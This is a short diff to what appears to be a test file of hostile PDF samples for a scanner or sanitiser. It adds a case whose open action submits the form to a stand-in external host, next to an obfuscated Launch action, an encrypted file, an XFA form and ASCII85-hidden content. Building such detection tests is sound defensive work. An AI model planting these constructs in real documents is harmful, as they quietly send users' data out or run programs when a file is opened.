@@ -118,6 +118,9 @@ HOSTILE = {
         "packed and spelled": pdf(packed=b"<< /S /#4cau#6ech >>"),
         "locked": pdf(b"/Encrypt 5 0 R"),
         "form": pdf(b"/AcroForm << /XFA 3 0 R >>"),
+        "form that is sent elsewhere": pdf(
+            b"/AA << /O << /S /SubmitForm /F (https://elsewhere.example) >> >>"
+        ),
         "in letters": pdf_with_objects(
             RUN, b"/Filter /ASCII85Decode", lambda raw: base64.a85encode(raw) + b"~>"
         ),
